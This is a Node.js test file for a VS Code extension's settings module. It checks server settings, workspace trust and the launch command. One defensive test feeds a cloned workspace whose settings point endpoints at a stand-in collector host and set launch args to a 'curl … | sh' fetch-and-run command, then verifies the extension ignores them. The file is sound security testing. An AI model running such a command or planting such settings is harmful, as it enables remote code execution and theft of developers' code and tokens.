// What the extension sends as settings, whether it says the workspace is trusted, and how it starts the
// server (src/settings.ts, compiled to out/).
"use strict";

const { test } = require("node:test");
const assert = require("node:assert/strict");
const { LANGUAGES, RESTRICTED_SETTINGS, SERVER_SETTING_KEYS, initializationOptions, launch, serverSettings } =
  require("../out/settings");
const manifest = require("../package.json");

const properties = manifest.contributes.configuration.properties;
const defaults = Object.fromEntries(Object.entries(properties).map(([key, schema]) => [key.slice(10), schema.default]));

/**
 * A stand-in for vscode.workspace.getConfiguration("idiomatic") with package.json's defaults under the
 * user's settings under the workspace's. `get` merges the three levels as if VS Code honoured every
 * workspace value: the extension must not rely on VS Code dropping the restricted ones.
 */
const reader = (user = {}, workspace = {}) => ({
  get: (key) => workspace[key] ?? user[key] ?? defaults[key],
  inspect: (key) => ({ key: `idiomatic.${key}`, defaultValue: defaults[key], globalValue: user[key],
    workspaceValue: workspace[key] }),
});

test("the server's settings are package.json's idiomatic.* settings except launch.*", () => {
  const contributed = Object.keys(properties)
    .map((key) => key.replace(/^idiomatic\./, ""))
    .filter((key) => !key.startsWith("launch."));
  assert.deepEqual([...SERVER_SETTING_KEYS], contributed);
});

test("initializationOptions carry every server setting and the trust, never launch.*", () => {
  const values = { inlineEnabled: false, diagnosticsEnabled: true, strategies: ["rag"], latencyBudgetS: 2,
    minPassRate: 0.8, providerBaseUrl: "http://127.0.0.1:9/v1", indexUrl: "", teamUrl: "https://idiom.example.com",
    teamRepository: "acme-web", maxTokens: 64, debounceMs: 400,
    maxConcurrency: 1, "launch.command": "idiom", "launch.args": ["serve"], unrelated: 1 };
  const settings = Object.fromEntries(SERVER_SETTING_KEYS.map((key) => [key, values[key]]));
  assert.deepEqual(serverSettings(reader(values)), settings);
  assert.deepEqual(initializationOptions(reader(values), true), { ...settings, trusted: true });
  assert.deepEqual(initializationOptions(reader(values), false), { ...settings, trusted: false });
});

test("a setting VS Code has no value for is left to the server's default", () => {
  const nothing = { get: () => undefined, inspect: () => undefined };
  assert.deepEqual(serverSettings({ ...nothing, get: (key) => (key === "maxTokens" ? 32 : undefined) }),
    { maxTokens: 32 });
  assert.deepEqual(initializationOptions(nothing, false), { trusted: false });
});

test("a workspace's settings.json cannot choose the endpoints or the program, trusted or not", () => {
  const cloned = { providerBaseUrl: "https://collector.example/v1", indexUrl: "http://collector.example:8000",
    teamUrl: "https://collector.example",
    "launch.command": "./node_modules/.bin/idiom", "launch.args": ["-c", "curl collector.example | sh"],
    maxTokens: 32 };
  const sent = initializationOptions(reader({}, cloned), true);
  assert.equal(sent.providerBaseUrl, "");
  assert.equal(sent.indexUrl, "");
  assert.equal(sent.teamUrl, "", "code and the developer's token go only where the user's own settings say");
  assert.equal(sent.maxTokens, 32, "an ordinary setting still comes from the workspace");
  assert.deepEqual(launch(reader({}, cloned)), { command: "idiom", args: ["serve"] });

  const mine = { providerBaseUrl: "http://127.0.0.1:8080/v1", "launch.command": "/opt/idiom/bin/idiom" };
  assert.equal(serverSettings(reader(mine, cloned)).providerBaseUrl, "http://127.0.0.1:8080/v1");
  assert.deepEqual(launch(reader(mine, cloned)), { command: "/opt/idiom/bin/idiom", args: ["serve"] });
  assert.deepEqual([...RESTRICTED_SETTINGS].sort(), Object.keys(cloned).filter((k) => k !== "maxTokens").sort());
});

test("launch falls back to `idiom serve`", () => {
  assert.deepEqual(launch(reader()), { command: "idiom", args: ["serve"] });
  assert.deepEqual(launch(reader({ "launch.command": "  " })), { command: "idiom", args: ["serve"] });
  assert.deepEqual(launch(reader({ "launch.command": "/venv/bin/idiom", "launch.args": ["serve", "--repo", "/r"] })),
    { command: "/venv/bin/idiom", args: ["serve", "--repo", "/r"] });
});

test("the extension activates for exactly the languages it serves", () => {
  const activating = manifest.activationEvents.filter((e) => e.startsWith("onLanguage:")).map((e) => e.slice(11));
  assert.deepEqual(activating, [...LANGUAGES]);
});
